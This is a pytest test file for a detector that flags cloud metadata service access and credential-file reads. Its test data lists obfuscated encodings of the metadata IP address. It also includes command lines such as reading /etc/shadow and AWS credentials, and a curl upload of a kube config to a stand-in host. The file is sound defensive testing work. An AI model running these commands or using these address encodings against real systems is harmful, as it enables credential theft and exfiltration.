from __future__ import annotations

import ipaddress
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from vigiles.detectors.metadata import Metadata
from vigiles.detectors.metadata_places import ADDRESSES, credential_file, metadata_service


@pytest.mark.parametrize(
    "host",
    [
        *ADDRESSES,
        "METADATA.google.internal.",
        "[fd00:ec2::254]",
        "::ffff:169.254.169.254",
        "2852039166",
        "0xa9fea9fe",
        "0xA9.0xFE.0xA9.0xFE",
        "0251.0376.0251.0376",
        "169.254.43518",
        "169.254.169.254.nip.io",
        "169-254-169-254.sslip.io",
        "x.169.254.169.254.nip.io",
    ],
)
def test_a_metadata_service_is_known_however_it_is_written(host: str) -> None:
    assert metadata_service(host)


@pytest.mark.parametrize(
    "host", ["169.254.169.253", "metadata.example.com", "allowed.example", "", "1", "999.1.1.1", "a.nip.io"]
)
def test_other_hosts_are_not(host: str) -> None:
    assert metadata_service(host) is None


@settings(max_examples=200)
@given(st.text(max_size=60))
def test_any_host_is_looked_at_without_raising(host: str) -> None:
    metadata_service(host)


@settings(max_examples=100)
@given(st.integers(0, 2**32 - 1))
def test_number_forms_mean_their_address(value: int) -> None:
    known = str(ipaddress.IPv4Address(value)) in ADDRESSES
    assert (metadata_service(str(value)) is not None) == known
    assert (metadata_service(hex(value)) is not None) == known


def test_connect_flow_and_name(make: Any) -> None:
    detector = Metadata()
    (connect,) = detector.feed(make.connect("169.254.169.254", 80))
    assert (connect.rule, connect.severity, connect.blocked) == ("metadata.service", "high", True)
    assert "T1552.005" in connect.techniques
    assert detector.feed(make.connect("169.254.169.254", 80)) == []
    (flow,) = detector.feed(make.flow("169.254.169.254", 80, protocol="http", path="/latest/meta-data/"))
    assert (flow.blocked, flow.cause) == (False, connect.cause)
    assert "/latest/meta-data/" in flow.summary
    (name,) = detector.feed(make.dns("metadata.google.internal", outcome="refused", reason="dns_name"))
    assert (name.rule, name.blocked) == ("metadata.name", True)


def test_a_name_that_is_answered_after_all_is_told_again(make: Any) -> None:
    detector = Metadata()
    outcomes = ["nxdomain", "nxdomain", "answered", "answered", "refused"]
    asked = [make.dns("metadata.google.internal", outcome=outcome) for outcome in outcomes]
    assert [finding.blocked for query in asked for finding in detector.feed(query)] == [True, False]


def test_a_name_of_ones_own_that_leads_there_is_found(make: Any) -> None:
    assert Metadata().feed(make.flow("innocent.example", 80, address="169.254.169.254"))


@pytest.mark.parametrize(
    "argv",
    [
        ("cat", "/root/.aws/credentials"),
        ("base64", "/home/a/.ssh/id_ed25519"),
        ("curl", "-F", "f=@/home/a/.kube/config", "http://x"),
        ("tar", "cf", "-", "/home/a/.config/gcloud/legacy_credentials/x"),
        ("cp", "/home/a/.netrc", "/tmp"),
        ("cat", "/etc/shadow"),
        ("strings", "/proc/1/environ"),
        ("dd", "if=/etc/shadow"),
    ],
)
def test_reading_secret_files(make: Any, argv: tuple[str, ...]) -> None:
    (finding,) = Metadata().feed(make.start(*argv))
    assert (finding.rule, finding.severity) == ("metadata.credential_file", "medium")


@pytest.mark.parametrize(
    "argv",
    [
        ("ssh", "-i", "/home/a/.ssh/id_ed25519", "git.example"),
        ("git", "commit", "-m", "read ~/.aws/credentials from the environment"),
        ("grep", "-r", "aws/credentials", "src"),
        ("cat", "docs/.ssh/README"),
        ("cat", "/home/a/.ssh/known_hosts"),
        ("cat", ".npmrc"),
        ("cat", "/proc/self/status"),
        ("cat", "/proc/cpuinfo"),
        ("ls", "/home/a/.aws/credentials"),
        ("vim", "tests/data/etc/passwd"),
    ],
)
def test_benign_twins_of_command_lines(make: Any, argv: tuple[str, ...]) -> None:
    assert Metadata().feed(make.start(*argv)) == []


def test_benign_twin_a_path_named_metadata_of_an_allowed_host(make: Any) -> None:
    detector = Metadata()
    assert detector.feed(make.flow("mirror.example", 80, via="proxy", protocol="http", path="/latest/meta-data/iam")) == []
    assert detector.feed(make.dns("metadata.example.com")) == []


def test_a_program_that_owns_the_file_may_read_it() -> None:
    assert credential_file("rsync", "/home/a/.ssh/id_rsa") is None
    assert credential_file("cat", "/home/a/.ssh/id_rsa") is not None
